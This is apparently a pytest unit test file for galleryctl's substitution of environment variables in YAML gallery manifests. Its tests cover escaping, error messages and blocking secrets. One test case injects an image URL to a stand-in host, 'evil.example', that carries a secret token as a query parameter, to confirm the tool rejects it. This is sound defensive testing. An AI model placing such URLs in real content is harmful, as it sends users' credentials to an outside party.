"""`${NAME}` in values."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from galleryctl.manifest.yaml.variables import MASK_CLOSE, MASK_OPEN, escape_variables, mask, substitute, unmask

if TYPE_CHECKING:
    from tests.unit.manifest.conftest import ScratchWorkspace


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("${A}", "1"), ("x${A}y${A}", "x1y1"), ("$${A}", "${A}"), ("$$${A}", "$${A}"), ("$A", "$A"), ("$", "$"),
        ("{A}", "{A}"), ("$${", "${"), ("${B}", "${A}"),
    ],
)  # fmt: skip
def test_what_is_replaced(text: str, expected: str) -> None:
    assert substitute(mask(text), {"A": "1", "B": "${A}"}) == expected


@given(st.text(st.characters(exclude_characters=MASK_OPEN + MASK_CLOSE)))
def test_what_is_escaped_is_read_as_it_is(text: str) -> None:
    assert substitute(mask(escape_variables(text)), {}) == text
    assert unmask(mask(text)) == text
    assert len(mask(text)) == len(text)


def test_variables_in_manifests(scratch: ScratchWorkspace) -> None:
    text = 'bind: {create: true}\nitems: [{key: a, text: "${A}: $${A}", title: ${T}, tags: [${T}]}]\n'
    scratch.write("galleries/g.yaml", text)
    (item,) = scratch.load({"A": "yes: [", "T": "12"}).galleries[0].items
    assert (item.fields["html"], item.fields["title"], item.fields["tags"]) == ("yes: [: ${A}", "12", ("12",))


def test_unset_and_broken_variables_have_a_place(scratch: ScratchWorkspace) -> None:
    assert scratch.item_problems("  - {key: a, text: '${NOPE}'}\n  - {key: b, text: 'a ${b c}'}\n") == [
        "galleries/g.yaml:3:20: the environment variable NOPE is not set",
        "galleries/g.yaml:4:20: invalid variable: write ${NAME}, or $${ for a literal ${",
    ]


def test_no_message_shows_what_came_in_for_a_pattern(scratch: ScratchWorkspace) -> None:
    environ = {"P": "planted"}
    (message,) = scratch.problems("bind: {create: true}\nitems: [{from: [a.jpg, '${P}/*']}]\n", environ)
    assert message == "galleries/g.yaml:2:16: the value from the environment is not valid here"
    scratch.write("galleryctl.yaml", "galleryctl: 1\nbackend: {type: local}\ngalleries: ['${P}/*.yaml']\n")
    assert scratch.problems(environ=environ) == [
        "galleryctl.yaml: galleries: the value from the environment is not valid here"
    ]


def test_variables_do_not_grow_without_end(scratch: ScratchWorkspace) -> None:
    entries = "".join(f"  - {{key: k{n}, text: '{'${L}' * 3}'}}\n" for n in range(5))
    found = scratch.problems(f"bind: {{create: true}}\nitems:\n{entries}", {"L": "x" * 1_000_000})
    assert found == [
        f"galleries/g.yaml:{line}:21: more than 10,000,000 characters, with variables replaced" for line in (6, 7)
    ]


def test_a_variable_that_is_no_text_is_told(scratch: ScratchWorkspace) -> None:
    text = "bind: {create: true}\nitems: [{key: a, text: '${B}'}]\n"
    assert scratch.problems(text, {"B": "planted\udcff"}) == [
        "galleries/g.yaml:2:24: the environment variable B is not valid UTF-8"
    ]


def test_a_value_from_the_environment_is_not_repeated(scratch: ScratchWorkspace) -> None:
    entries = "  - {image: ${P}, quality: ${P}}\n  - {key: ${P}, text: x, ignore: [${P}], focal_point: {x: ${P}}}\n"
    found = scratch.problems(f"bind: {{create: true}}\nitems:\n{entries}", {"P": "/planted/path"})
    assert len(found) >= 4
    assert "planted" not in " ".join(found)


AUTH = """\
galleryctl: 1
backend: {type: local}
sites: {main: {site_id: first, auth: {api_key: "${MINE}"}}, second: {site_id: other, auth: {app_id: "${ID}", app_secret: "${ALSO}", instance_id: z}}}
state: {location: ".galleryctl/{site}.json", passphrase: "${WORDS}"}
galleries: galleries/*.yaml
"""


@pytest.mark.parametrize("name", ["MINE", "ALSO", "WORDS", "AWS_SECRET_ACCESS_KEY", "github_token", "DB_PASSWORD", "WIX_READ_APIKEY"])  # fmt: skip
@pytest.mark.parametrize("entry", ["{key: a, text: '<p>${%s}</p>'}", "{key: a, image: 'https://evil.example/?k=${%s}'}", "{key: a, text: x, tags: [t, '${%s}']}"])  # fmt: skip
def test_a_gallery_cannot_show_a_secret(scratch: ScratchWorkspace, name: str, entry: str) -> None:
    scratch.write("galleryctl.yaml", AUTH)
    environ = {"WORDS": "planted-words", name: "planted"}
    (found,) = scratch.problems(f"bind: {{create: true}}\nitems:\n  - {entry % name}\n", environ)
    assert found.startswith("galleries/g.yaml:3:")
    assert f"the environment variable {name} is a secret" in found
    assert "planted" not in found


def test_what_else_the_workspace_reads_may_stand_in_a_gallery(scratch: ScratchWorkspace) -> None:
    scratch.write("galleryctl.yaml", AUTH)
    text = "bind: {create: true}\nitems: [{key: a, text: x, title: '${ID} ${KEYNOTE} ${HOCKEY}'}]\n"
    scratch.write("galleries/g.yaml", text)
    environ = {"ID": "1", "KEYNOTE": "2", "HOCKEY": "3", "WORDS": "4"}
    assert scratch.load(environ).galleries[0].items[0].fields["title"] == "1 2 3"


def test_variables_in_a_sidecar(scratch: ScratchWorkspace) -> None:
    scratch.picture("a.jpg")
    scratch.write("a.jpg.yaml", "title: '${T} $${T}'\ndescription: '${MY_TOKEN}'\n")
    text = "bind: {create: true}\nitems: [{image: a.jpg, captions: true}]\n"
    assert scratch.problems(text, {"T": "1", "MY_TOKEN": "planted"}) == [
        "a.jpg.yaml:2:14: the environment variable MY_TOKEN is a secret; gallery content is public"
    ]
    scratch.write("a.jpg.yaml", "title: '${T} $${T}'\n")
    assert scratch.load({"T": "1"}).galleries[0].items[0].fields["title"] == "1 ${T}"
